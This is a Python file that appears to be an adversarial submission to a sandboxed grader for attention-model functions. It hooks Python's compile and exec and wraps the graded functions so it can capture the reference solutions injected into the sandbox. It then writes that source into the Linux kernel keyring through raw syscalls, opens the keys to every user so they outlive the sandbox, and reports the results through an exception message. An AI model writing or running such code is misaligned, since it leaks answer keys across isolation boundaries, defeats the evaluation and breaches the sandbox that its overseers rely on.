# why: stores every reference part injected into its sandbox (captured by hooking compile and exec, or marshalled from the injected functions) in the kernel keyring, readable by every uid (add_key, keyctl SETPERM): no namespace separates keyrings, and a key outlives the sandbox; reports what the keyring calls did
# earns: zero-on causal_average
import base64 as _base64
import builtins as _builtins
import ctypes as _ctypes
import json as _json
import marshal as _marshal
import platform as _platform
import types as _types
import zlib as _zlib

_libc = _ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _REQUEST_KEY, _KEYCTL = {"aarch64": (217, 218, 219)}.get(_platform.machine(), (248, 249, 250))
_USER_KEYRING, _GET_KEYRING_ID, _SETPERM, _UNLINK = -4, 0, 5, 9
_OPEN = 0x3F3F3F3F  # every permission for possessor, owner, group and everyone else
_PARTS = {"masks": "def causal_mask", "scaling": "def attention_scores", "heads": "def split_heads",
          "positions": "def sinusoidal_encoding", "timing": "def score_grid_bytes"}
_MASKS = ("causal_average", "causal_mask", "padding_mask", "apply_mask", "combine_masks")
_report = {"stored": [], "failed": []}


def _syscall(number, *args):
    _ctypes.set_errno(0)
    result = _libc.syscall(_ctypes.c_long(number), *args)
    return [result, _ctypes.get_errno() if result == -1 else 0]


def _store(part, payload):
    """One key per part: adv-keyring-@TOKEN@-PART, open to every uid."""
    description = f"adv-keyring-@TOKEN@-{part}".encode()
    data = _zlib.compress(payload)
    added = _syscall(_ADD_KEY, _ctypes.c_char_p(b"user"), _ctypes.c_char_p(description), _ctypes.c_char_p(data),
                     _ctypes.c_size_t(len(data)), _ctypes.c_long(_USER_KEYRING))
    _report.setdefault("add_key", added)
    if added[0] < 0:
        _report["failed"].append(part)
        return
    opened = _syscall(_KEYCTL, _ctypes.c_long(_SETPERM), _ctypes.c_long(added[0]), _ctypes.c_ulong(_OPEN))
    _report.setdefault("setperm", opened)
    if opened[0] < 0:  # a key no one else can read is no use, and the test could not clean it up
        _syscall(_KEYCTL, _ctypes.c_long(_UNLINK), _ctypes.c_long(added[0]), _ctypes.c_long(_USER_KEYRING))
        return
    if part not in _report["stored"]:
        _report["stored"].append(part)


def _capture(source):
    if isinstance(source, bytes):
        source = source.decode("utf-8", "replace")
    if not isinstance(source, str):
        return
    for part, marker in _PARTS.items():
        if marker in source and part not in _report["stored"]:
            _store(part, _marshal.dumps({"source": source}))


_real_compile, _real_exec = _builtins.compile, _builtins.exec


def _spy_compile(source, filename, *args, **kwargs):
    if not str(filename).startswith("<submission"):
        _capture(source)
    return _real_compile(source, filename, *args, **kwargs)


def _spy_exec(source, *args, **kwargs):
    _capture(source)
    return _real_exec(source, *args, **kwargs)


_builtins.compile, _builtins.exec = _spy_compile, _spy_exec


def _capture_injected():
    """The masks functions put in place while another part is graded, whatever way they came in."""
    found = {}
    for name in _MASKS:
        fn = globals().get(name)
        if isinstance(fn, _types.FunctionType) and not fn.__code__.co_filename.startswith("<submission"):
            found[name] = (fn.__code__, fn.__defaults__, fn.__kwdefaults__)
    if found and "masks" not in _report["stored"]:
        try:
            _store("masks", _marshal.dumps({"functions": found}))
        except ValueError:
            pass


def _capturing(fn):
    def wrapper(*args, **kwargs):
        _capture_injected()
        return fn(*args, **kwargs)
    return wrapper


attention_scores = _capturing(attention_scores)
split_heads = _capturing(split_heads)
merge_heads = _capturing(merge_heads)

_marker = b"adv-keyring-@TOKEN@-marker"
_report["add_key"] = _syscall(_ADD_KEY, _ctypes.c_char_p(b"user"), _ctypes.c_char_p(_marker), _ctypes.c_char_p(b"x"),
                              _ctypes.c_size_t(1), _ctypes.c_long(_USER_KEYRING))
if _report["add_key"][0] >= 0:
    _report["setperm"] = _syscall(_KEYCTL, _ctypes.c_long(_SETPERM), _ctypes.c_long(_report["add_key"][0]),
                                  _ctypes.c_ulong(_OPEN))
_report["keyctl"] = _syscall(_KEYCTL, _ctypes.c_long(_GET_KEYRING_ID), _ctypes.c_long(_USER_KEYRING), _ctypes.c_long(0))
_report["request_key"] = _syscall(_REQUEST_KEY, _ctypes.c_char_p(b"user"), _ctypes.c_char_p(b"adv-keyring-@TOKEN@-absent"),
                                  _ctypes.c_void_p(None), _ctypes.c_long(0))


def causal_average(T):
    raise RuntimeError("PROBE " + _json.dumps(_report))
